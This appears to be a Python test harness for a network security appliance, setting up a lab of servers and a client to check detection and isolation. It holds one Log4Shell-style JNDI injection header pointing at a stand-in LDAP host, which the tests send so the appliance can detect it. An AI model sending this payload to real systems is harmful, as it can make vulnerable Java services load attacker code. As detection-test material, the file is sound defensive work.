"""What the tests between network namespaces share: the cloud with servers, the appliance, traffic in the background."""
import os
import pathlib
import sys
import threading
import unittest

from appliance import DEMO_POLICY, Appliance
from lab import Lab, LabError, skip_unless_possible
from servers import Client, DnsServer, WebServer

ATTACK_HEADER = "X-Api-Version: ${jndi:ldap://203.0.113.10/a}"
ATTACK_SID = "9000001"
NO_ANSWER = "000"


class Traffic:
    """One harmless request after another, until the block ends; `statuses` in order."""

    def __init__(self, client, url):
        self.statuses = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, args=(client, url))

    def _run(self, client, url):
        while not self._stop.is_set():
            self.statuses.append(client.http(url))

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        self._thread.join()


class Scenario(unittest.TestCase):
    """Each test gets a cloud and an appliance of its own."""

    programs = None  # set by main()
    settings = {}

    def setUp(self):
        self.lab = Lab()
        self.lab.__enter__()
        self.addCleanup(self._close)
        self.portal = WebServer(self.lab, "portal")
        self.tax = WebServer(self.lab, "tax")
        self.dns = DnsServer(self.lab, "portal", {"portal.example": self.lab.hosts["portal"].v4})
        self.finance = Client(self.lab, "finance")
        self.url = f"http://{self.lab.hosts['portal'].v4}"
        self.tax_url = f"http://{self.lab.hosts['tax'].v4}/"
        self.appliance = Appliance(self.lab, self.programs, settings=self.settings)

    def _close(self):
        result = self._outcome.result
        if any(test is self for test, _ in result.failures + result.errors):
            for name, daemon in self.appliance.daemons.items():
                print(f"---- {name}\n{daemon.tail(25)}", file=sys.stderr)
        self.lab.__exit__(None, None, None)

    def start(self):
        self.appliance.start()
        self.apply(DEMO_POLICY)

    def apply(self, policy, check=True):
        return self.appliance.run("policy", "apply", policy, check=check)

    def get(self, path="/"):
        return self.finance.http(self.url + path)

    def attack(self, path="/"):
        return self.finance.http(self.url + path, "-H", ATTACK_HEADER)

    def attacks_recorded(self):
        return self.appliance.find("--sid", ATTACK_SID, "--limit", "0")

    def assert_isolated(self):
        self.assertEqual(self.finance.http(self.tax_url), NO_ANSWER)
        self.assertEqual(self.tax.access_log(), "")

    def assert_store_intact(self):
        report = self.appliance.json("audit", "verify", check=False)
        self.assertTrue(report["intact"], report)


def main():
    if len(sys.argv) < 2:
        sys.exit(f"usage: {sys.argv[0]} FOLDER-OF-PROGRAMS [UNITTEST-OPTION...]")
    Scenario.programs = pathlib.Path(sys.argv.pop(1))
    skip_unless_possible(Scenario.programs)
    unittest.main(module="__main__", verbosity=2)
